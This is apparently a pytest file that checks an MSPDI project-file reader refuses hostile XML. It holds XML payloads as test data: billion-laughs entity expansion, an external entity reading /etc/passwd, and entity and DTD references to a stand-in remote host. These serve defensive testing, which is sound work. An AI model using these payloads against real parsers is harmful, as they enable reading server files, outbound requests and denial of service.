"""Hostile XML is refused: no DTD, no entity expansion, no external or network access."""

from __future__ import annotations

import io
import socket
from pathlib import Path
from typing import Any

import pytest

from pmo.errors import FileFormatError, PayloadTooLarge
from pmo.interop.mspdi import NAMESPACE, read_mspdi

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE Project [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Project xmlns="{NAMESPACE}"><Name>&lol9;</Name></Project>
"""

EXTERNAL_FILE = f"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="{NAMESPACE}"><Name>&secret;</Name></Project>
"""

EXTERNAL_URL = f"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY remote SYSTEM "http://198.51.100.7/mspdi.xml">]>
<Project xmlns="{NAMESPACE}"><Name>&remote;</Name></Project>
"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://198.51.100.7/project.dtd">
<Project xmlns="{NAMESPACE}"><Name>x</Name></Project>
"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY % p SYSTEM "http://198.51.100.7/p.dtd"> %p;]>
<Project xmlns="{NAMESPACE}"><Name>x</Name></Project>
"""

INTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY name "harmless">]>
<Project xmlns="{NAMESPACE}"><Name>&name;</Name></Project>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to open a socket fails the test."""

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the reader tried to use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize(
    "text",
    [BILLION_LAUGHS, EXTERNAL_FILE, EXTERNAL_URL, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_ENTITY],
    ids=["billion-laughs", "external-file", "external-url", "external-dtd", "parameter-entity",
         "internal-entity"],
)  # fmt: skip
def test_documents_with_a_dtd_are_refused(text: str, no_network: None) -> None:
    with pytest.raises(FileFormatError) as err:
        read_mspdi(text.encode(), name="evil.xml")
    assert "refused" in err.value.message or "not well-formed" in err.value.message
    assert err.value.location.file == "evil.xml"
    assert "root:" not in err.value.message  # nothing of /etc/passwd leaks


def test_refused_from_a_file_too(tmp_path: Path, no_network: None) -> None:
    path = tmp_path / "evil.xml"
    path.write_text(EXTERNAL_FILE, encoding="utf-8")
    with pytest.raises(FileFormatError):
        read_mspdi(path)


def test_a_huge_stream_is_refused_before_it_is_all_read() -> None:
    class Endless(io.RawIOBase):
        def __init__(self) -> None:
            self.served = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            head = f'<?xml version="1.0"?><Project xmlns="{NAMESPACE}"><Name>'.encode()
            chunk = head if self.served == 0 else b"x" * len(buffer)
            n = min(len(buffer), len(chunk))
            buffer[:n] = chunk[:n]
            self.served += n
            return n

    stream = Endless()
    with pytest.raises(PayloadTooLarge):
        read_mspdi(io.BufferedReader(stream), max_bytes=1_000_000)
    assert stream.served < 2_000_000


def test_plain_files_still_read(no_network: None) -> None:
    doc = read_mspdi(
        f'<?xml version="1.0"?><Project xmlns="{NAMESPACE}"><Name>ok &amp; fine</Name>'
        "</Project>".encode()
    )
    assert doc.project.name == "ok & fine"
